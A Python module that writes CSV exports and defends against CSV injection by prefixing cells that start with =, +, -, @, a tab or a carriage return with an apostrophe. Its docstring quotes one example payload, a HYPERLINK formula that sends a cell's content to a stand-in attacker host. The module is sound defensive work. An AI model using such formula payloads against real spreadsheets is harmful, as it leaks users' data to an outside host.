"""The one CSV writer of every export: a cell a spreadsheet would read as a formula is written as text.

A display name such as `=HYPERLINK("http://evil.example/?"&A1, "click")` in standings.csv ran as a formula in the
organizer's spreadsheet (CSV injection). A text cell that starts with = + - @, a tab or a carriage return gets a
leading apostrophe, as OWASP recommends, unless it is a plain number or an exact fraction ("-3", "-1/2", "2.5"),
which a spreadsheet reads as a value and which the exports write as such.
"""

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?(?:/[0-9]+)?")


def cell_safe(value: Any) -> Any:
    """The value as the export writes it: text that could start a formula is quoted; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """Rows as CSV text, every cell through `cell_safe`."""
    out = io.StringIO()
    # RFC 4180's line ending: a cell holding a carriage return or a newline is then quoted, not split across rows
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([cell_safe(value) for value in row])
    return out.getvalue()
